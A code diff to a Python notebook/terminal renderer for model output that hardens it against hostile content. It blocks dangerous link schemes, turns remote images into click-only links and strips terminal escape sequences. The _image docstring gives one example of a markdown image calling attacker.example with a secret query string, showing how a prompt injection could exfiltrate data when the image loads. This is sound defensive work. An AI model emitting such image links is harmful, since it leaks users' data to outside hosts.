@@ -2,8 +2,12 @@
 
 Model output is untrusted.  In a notebook it is rendered to HTML here, by markdown-it
 with raw HTML disabled (``<script>`` and ``<img onerror>`` come out as text, and
-``javascript:`` links are refused), and only that HTML and plain text are sent to the
-frontend: there is no ``text/markdown`` that a frontend could render with raw HTML on.
+``javascript:``/``vbscript:``/``file:`` links are refused), and only that HTML and plain
+text are sent to the frontend: there is no ``text/markdown`` that a frontend could render
+with raw HTML on.  Nothing in it loads on display: an image from a URL becomes a link the
+person may click (see :func:`_image`), so a prompt injection cannot make the browser send
+data anywhere by being shown.  In a terminal, escape sequences are removed
+(:mod:`ollama_magic.terminal`).
 
 Re-rendering the whole answer at every token is quadratic, so updates are throttled:
 at most one per ``interval`` seconds, and never more often than every four times the
@@ -21,10 +25,60 @@ from collections.abc import Callable
 from typing import Any, TextIO
 
 from markdown_it import MarkdownIt
+from markdown_it.common.utils import escapeHtml
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
 
 from .result import GenerationResult, TextBuffer
+from .terminal import TerminalText, printable
+
+#: Images that are shown as images: raster pictures carried inside the answer itself.
+#: They fetch nothing.  SVG never (it is a document that can hold script and references
+#: to other resources); markdown-it's link check already refuses every other ``data:``.
+_EMBEDDED_IMAGE = re.compile(r"data:image/(?:png|jpeg|gif|webp)[;,]", re.IGNORECASE)
+
+#: Shown for an image that was not loaded; the link goes where the image would have come from.
+_IMAGE_STYLE = "border:1px dashed currentColor;border-radius:3px;padding:0 0.25em"
+
+
+def _image(self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
+    """An image in an answer: shown only when embedded; any other becomes a visible link.
+
+    ``![](https://attacker.example/c?d=SECRET)`` rendered as ``<img>`` would make the
+    browser send SECRET each time the cell is shown (and whenever the notebook is opened
+    again), without a click.  So only ``data:`` raster images, which fetch nothing, stay
+    images; anything else (http(s), protocol-relative, relative paths) is a link reading
+    ``[image not loaded: ALT]`` that the person can follow if they choose.
+    """
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    alt = self.renderInlineAsText(token.children or [], options, env)
+    if _EMBEDDED_IMAGE.match(src):
+        return f'<img src="{escapeHtml(src)}" alt="{escapeHtml(alt)}" />'
+    label = alt.strip() or src
+    if len(label) > 80:
+        label = label[:79] + "…"
+    shown = f"[image not loaded: {escapeHtml(label)}]"
+    title = f"image not loaded: {escapeHtml(src)}"
+    depth = sum(1 if t.type == "link_open" else -1 if t.type == "link_close" else 0 for t in tokens[:idx])
+    if depth > 0:  # inside a link already (a linked badge): links cannot nest, the outer one is kept
+        return f'<span class="ollama-magic-image" title="{title}" style="{_IMAGE_STYLE}">{shown}</span>'
+    return (
+        f'<a href="{escapeHtml(src)}" class="ollama-magic-image" title="{title}" '
+        f'rel="noopener noreferrer nofollow" style="{_IMAGE_STYLE}">{shown}</a>'
+    )
+
+
+def _link_open(self: RendererHTML, tokens: list[Token], idx: int, options: OptionsDict, env: EnvType) -> str:
+    """Links open nothing by themselves; when followed, they send no referrer (the notebook's URL)."""
+    tokens[idx].attrSet("rel", "noopener noreferrer nofollow")
+    return self.renderToken(tokens, idx, options, env)
+
 
 _markdown = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
+_markdown.add_render_rule("image", _image)
+_markdown.add_render_rule("link_open", _link_open)
 
 # Inline styles, not a <style> element: JupyterLab strips <style> (and var(--jp-...)
 # colours) from outputs of notebooks it does not trust, such as one a colleague shared.
@@ -340,7 +394,11 @@ class NotebookView(View):
 
 
 class TerminalView(View):
-    """Writes the text as it arrives, for terminal IPython (no display handles there)."""
+    """Writes the text as it arrives, for terminal IPython (no display handles there).
+
+    Everything from the server passes through :mod:`ollama_magic.terminal` first, so an
+    answer cannot send escape sequences to the terminal, even split across chunks.
+    """
 
     def __init__(self, stream: TextIO | None = None, interval: float = 0.05) -> None:
         self._stream = stream
@@ -348,6 +406,8 @@ class TerminalView(View):
         self._next = 0.0
         self._thinking = False
         self._written = 0
+        self._text = TerminalText()
+        self._thought = TerminalText()
 
     @property
     def out(self) -> TextIO:
@@ -357,6 +417,13 @@ class TerminalView(View):
         if total > 1:
             self.out.write(f"[attempt {number} of {total}]\n")
         self._written = 0
+        self._text = TerminalText()
+        self._thought = TerminalText()
+
+    def _end_thinking(self, out: TextIO) -> None:
+        if self._thinking:
+            out.write(self._thought.flush() + "\n[/thinking]\n")
+            self._thinking = False
 
     def notice(self, text: str) -> None:
         if text:
@@ -369,12 +436,10 @@ class TerminalView(View):
             if not self._thinking:
                 out.write("[thinking]\n")
                 self._thinking = True
-            out.write(thought)
+            out.write(self._thought.feed(thought))
         if piece:
-            if self._thinking:
-                out.write("\n[/thinking]\n")
-                self._thinking = False
-            out.write(piece)
+            self._end_thinking(out)
+            out.write(self._text.feed(piece))
             self._written += len(piece)
         now = time.monotonic()
         if now >= self._next:
@@ -383,15 +448,14 @@ class TerminalView(View):
 
     def finish(self, result: GenerationResult, footer: str | None, status: str = "") -> None:
         out = self.out
-        if self._thinking:
-            out.write("\n[/thinking]\n")
-            self._thinking = False
-        out.write(result.text[self._written :])  # all of it for `stream: false`
+        self._end_thinking(out)
+        out.write(self._text.feed(result.text[self._written :]))  # all of it for `stream: false`
+        out.write(self._text.flush())
         out.write("\n")
         if result.errors:
-            out.write("Schema check failed:\n" + "".join(f"  - {e}\n" for e in result.errors))
+            out.write("Schema check failed:\n" + "".join(f"  - {printable(e)}\n" for e in result.errors))
         if status:
-            out.write(status + "\n")
+            out.write(printable(status) + "\n")
         if footer:
-            out.write(f"— {footer}\n")
+            out.write(f"— {printable(footer)}\n")
         out.flush()
